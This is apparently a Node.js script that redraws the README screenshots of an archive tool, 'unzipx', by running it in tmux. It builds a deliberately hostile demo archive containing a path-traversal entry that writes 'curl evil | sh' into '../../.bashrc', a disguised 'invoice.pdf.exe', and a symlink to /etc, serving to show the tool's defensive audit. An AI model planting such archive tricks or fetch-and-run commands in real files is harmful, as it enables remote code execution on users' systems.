// Remakes the pictures of the README: runs the built command in a real terminal (tmux), and draws what stands there.
// node scripts/screenshots.mjs; needs tmux and python3.
import { execFileSync } from "node:child_process";
import { chmodSync, cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { svgOf } from "./terminal-svg.mjs";

const root = join(dirname(fileURLToPath(import.meta.url)), "..");
const COLUMNS = 88;

/** Each line is typed, and the next one waits until its output is complete; an answer ends with "⏎" and is typed into a question. */
const SCENES = {
  extract: ["unzipx l photos.zip", "unzipx x photos.zip", "unzipx x photos.zip", "r⏎", "o⏎"],
  hostile: ["unzipx x parcel.zip", "unzipx t --audit parcel.zip"],
};

/** What a careful person would not open. */
const PARCEL = `
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as out:
    out.writestr("parcel/label.txt", "to whom it may concern\\n" * 40)
    out.writestr("parcel/invoice.pdf.exe", b"MZ" + bytes(4000))
    out.writestr("../../.bashrc", "curl evil | sh\\n")
    link = zipfile.ZipInfo("parcel/photos")
    link.external_attr = 0o120777 << 16
    link.create_system = 3
    out.writestr(link, "/etc")
`;

const work = mkdtempSync(join(tmpdir(), "unzipx-screenshots-"));
try {
  const folder = prepare();
  mkdirSync(join(root, "docs/images"), { recursive: true });
  for (const [name, lines] of Object.entries(SCENES)) writeFileSync(join(root, "docs/images", `${name}.svg`), svgOf(play(folder, name, lines), COLUMNS, `unzipx in a terminal: ${lines.filter((line) => !line.endsWith("⏎")).join("; ")}`));
} finally {
  rmSync(work, { recursive: true, force: true });
}

/** A folder with the command and archives to show it with. */
function prepare() {
  const folder = join(work, "home");
  mkdirSync(join(work, "bin"), { recursive: true });
  mkdirSync(folder);
  const command = join(work, "bin/unzipx");
  writeFileSync(command, `#!/bin/sh\nexec ${JSON.stringify(process.execPath)} ${JSON.stringify(join(root, "bin/unzipx.js"))} "$@"\n`);
  chmodSync(command, 0o755);
  cpSync(join(root, "fixtures/zip/sample.zip"), join(folder, "photos.zip"));
  execFileSync("python3", ["-c", PARCEL, join(folder, "parcel.zip")]);
  return folder;
}

/** The screen with its colours, when the last line's output has come. */
function play(folder, name, lines) {
  const tmux = (...words) => execFileSync("tmux", ["-L", `unzipx-${name}-${process.pid}`, "-f", "/dev/null", ...words], { encoding: "utf8" });
  const environment = { HOME: folder, PATH: `${join(work, "bin")}:${process.env.PATH}`, PS1: "$ ", UNZIPX_ACCEPT_TERMS: "1", TERM: "xterm-256color", LANG: "C.UTF-8", TZ: "UTC" };
  tmux("new-session", "-d", "-s", "scene", "-x", String(COLUMNS), "-y", "60", "-c", folder, "env", "-i", ...Object.entries(environment).map(([name, value]) => `${name}=${value}`), "bash", "--norc", "--noprofile");
  try {
    for (const line of lines) {
      const before = screen(tmux);
      const text = line.replace(/⏎$/, "");
      tmux("send-keys", "-t", "scene", "-l", text);
      tmux("send-keys", "-t", "scene", "Enter");
      waitFor(() => screen(tmux) !== before && /(^\$ ?$|: ?$)/.test(screen(tmux).trimEnd().split("\n").at(-1)));
    }
    return tmux("capture-pane", "-p", "-e", "-t", "scene").trimEnd().replace(/\n\S*\$\S*\s*$/, "");
  } finally {
    tmux("kill-server");
  }
}

function screen(tmux) {
  return tmux("capture-pane", "-p", "-t", "scene");
}

function waitFor(condition) {
  for (let tries = 0; tries < 200; tries++) {
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 100);
    if (condition()) return;
  }
  throw new Error("Cannot take a picture: the command did not end within 20 s");
}
